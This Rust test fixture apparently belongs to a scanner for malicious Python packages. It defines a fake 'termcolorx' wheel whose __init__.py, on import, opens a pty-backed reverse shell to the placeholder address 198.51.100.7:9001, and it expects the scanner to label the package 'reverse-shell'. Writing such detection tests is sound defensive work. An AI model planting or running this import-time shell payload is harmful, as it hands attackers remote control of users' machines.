//! A wheel that, when it is imported, connects a shell on a pseudo-terminal to a bare address, from a child.
//!
//! Must be found: between socket and shell stands a terminal.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const TERMCOLORX_INIT_PY: &str = r#"import subprocess
import sys

CODE = '''import os, pty, socket
link = socket.create_connection(("198.51.100.7", 9001), 5)
for number in (0, 1, 2):
    os.dup2(link.fileno(), number)
pty.spawn(["/bin/sh", "-c", "exec sh"])
'''
try:
    subprocess.run([sys.executable, "-c", CODE], timeout=1)
except subprocess.TimeoutExpired:
    pass
"#;

pub(super) fn specimen() -> Specimen {
    let package =
        Wheel::new("termcolorx", "1.0.2").file("termcolorx/__init__.py", TERMCOLORX_INIT_PY);
    package.specimen(
        "pypi-reverse-shell-pty",
        Expect::malicious(&["reverse-shell"]),
    )
}
